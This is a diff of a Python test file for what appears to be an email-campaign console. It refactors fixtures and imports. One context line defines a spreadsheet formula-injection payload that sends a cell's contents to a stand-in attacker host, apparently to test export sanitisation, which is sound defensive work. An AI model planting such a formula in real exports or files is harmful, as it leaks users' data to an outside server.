@@ -14,18 +14,16 @@ import pytest_asyncio
 from mailblast.v1 import auth_pb2, auth_pb2_grpc
 
 from services.common.identity import IDENTITY_HEADER, IdentitySigner, Principal
-from tests.support.console import OWNER, PASSWORD, Console, Web, create_list, poll, start_console
-from tests.support.stack import make_dkim_keys
+from tests.support.console import OWNER, PASSWORD, Console, Web, create_list, start_console
+from tests.support.poll import poll
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
 
 
 @pytest_asyncio.fixture
-async def console(database_url, nats_server, internal_key, tls_files, tmp_path: Path):
+async def console(database_url, nats_server, internal_key, tls_files, dkim_keys, tmp_path: Path):
     """The console on real services."""
-    started = await start_console(
-        database_url, nats_server, internal_key, tls_files, make_dkim_keys(tmp_path / "dkim"), tmp_path / "outbox"
-    )
+    started = await start_console(database_url, nats_server, internal_key, tls_files, dkim_keys, tmp_path / "outbox")
     yield started
     await started.stop()
 
